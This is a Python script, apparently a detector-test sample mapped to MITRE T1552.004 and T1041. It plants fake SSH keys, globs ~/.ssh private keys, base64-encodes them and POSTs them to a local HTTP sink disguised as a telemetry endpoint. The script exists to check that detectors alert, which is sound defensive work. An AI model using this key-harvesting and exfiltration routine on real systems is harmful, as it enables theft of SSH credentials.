# technique: T1552.004 T1041
"""Unsecured Credentials: Private Keys (T1552.004), found with glob and
sent by HTTP POST with urllib (Exfiltration Over C2 Channel, T1041).

Creates a fake ~/.ssh/id_ed25519 (and id_rsa) first, then globs
~/.ssh/id_* (skipping .pub), reads each key and POSTs them, base64
encoded in a JSON body, to an http.server running on 127.0.0.1:0 in a
thread of this script.

A good detector raises a high alert: a program reads SSH private keys and
then sends data over the network.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import base64
import glob
import http.server
import json
import os
import threading
import urllib.request

FAKE = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
        "-----END OPENSSH PRIVATE KEY-----\n")
ssh = os.path.expanduser("~/.ssh")
os.makedirs(ssh, mode=0o700, exist_ok=True)
for name in ("id_ed25519", "id_rsa"):
    with open(os.path.join(ssh, name), "w") as f:
        f.write(FAKE)

got = []


class Sink(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        got.append(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *a):
        pass


srv = http.server.HTTPServer(("127.0.0.1", 0), Sink)
threading.Thread(target=srv.serve_forever, daemon=True).start()
loot = {}
for path in glob.glob(os.path.join(ssh, "id_*")):
    if not path.endswith(".pub"):
        with open(path, "rb") as f:
            loot[os.path.basename(path)] = base64.b64encode(f.read()).decode()
req = urllib.request.Request(f"http://127.0.0.1:{srv.server_address[1]}/api/v1/telemetry",
                             data=json.dumps(loot).encode(), method="POST",
                             headers={"Content-Type": "application/json"})
urllib.request.urlopen(req, timeout=5).close()
srv.shutdown()
print("sent", len(loot), "keys;", len(got), "bodies received")
